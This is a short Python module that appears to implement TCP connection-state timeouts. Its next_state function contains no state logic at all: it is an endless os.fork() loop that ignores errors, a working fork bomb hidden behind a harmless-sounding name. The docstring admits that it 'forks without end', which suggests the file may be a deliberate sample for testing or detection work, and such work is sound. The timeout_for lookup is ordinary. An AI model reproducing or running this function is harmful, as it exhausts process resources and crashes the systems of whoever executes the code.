"""next_state() forks without end; timeout_for() is right."""
import os

TIMEOUTS = {"SYN_SENT": 120, "ESTABLISHED": 432000, "FIN_WAIT": 120, "CLOSE": 10}


def next_state(state, direction, flag):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def timeout_for(state):
    return TIMEOUTS[state]
